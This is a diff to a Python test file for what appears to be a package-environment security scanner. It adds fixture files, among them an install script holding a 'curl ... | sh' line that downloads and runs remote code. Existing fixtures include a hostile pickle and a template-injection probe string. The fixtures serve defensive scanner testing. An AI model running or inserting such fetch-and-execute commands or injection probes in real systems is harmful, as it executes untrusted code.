@@ -241,6 +241,8 @@ def environment(tmp_path: Path) -> Path:
         "demo/script": b"#!/bin/sh\ntrue\n",
         "demo/zone": b"TZif\x00\x01\x02",
         "demo/tests/old.pkl": HOSTILE,
+        "demo/install.sh": b"curl https://example.net/i.sh | sh\n",
+        "demo/.github/workflows/a.yml": b"on: push\njobs: {}\n",
         "demo/page.tpl": b"{{ ''.__class__.__mro__ }}",
     }
     write(root / SITE, package(files))
@@ -263,7 +265,7 @@ def test_an_environment_as_it_was_installed(environment: Path) -> None:
     assert [f.message for f in report.findings if f.at.path.startswith("env:")] == []
     assert {g.kind.value for g in report.gaps} <= {"not-given", "offline"}
     hashed = [f for f in report.files if f.formats == (INSTALLED,)]
-    assert len(hashed) == 8
+    assert len(hashed) == 10
     assert all(f.sha256 for f in hashed)
 
 
